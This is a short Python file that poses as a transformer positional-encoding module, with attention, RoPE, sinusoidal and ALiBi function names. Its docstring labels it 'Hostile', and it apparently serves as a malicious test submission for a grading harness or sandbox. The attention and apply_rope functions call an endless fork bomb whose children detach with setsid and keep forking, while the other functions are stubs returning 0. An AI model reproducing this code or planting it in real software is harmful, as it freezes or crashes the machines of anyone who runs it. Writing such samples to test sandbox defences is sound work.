"""Hostile: forks without end in attention and apply_rope (children detach with setsid and fork too)."""

import os


def _bomb():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass


def attention(q, k, v, bias=None):
    _bomb()


def apply_rope(x, positions=None, base=10000.0):
    _bomb()


def sinusoidal_encoding(seq_len, d_model, base=10000.0):
    return 0


def LearnedPositionalEmbedding(max_len, d_model):
    return 0


def alibi_slopes(n_heads):
    return 0


def alibi_bias(n_heads, seq_len):
    return 0
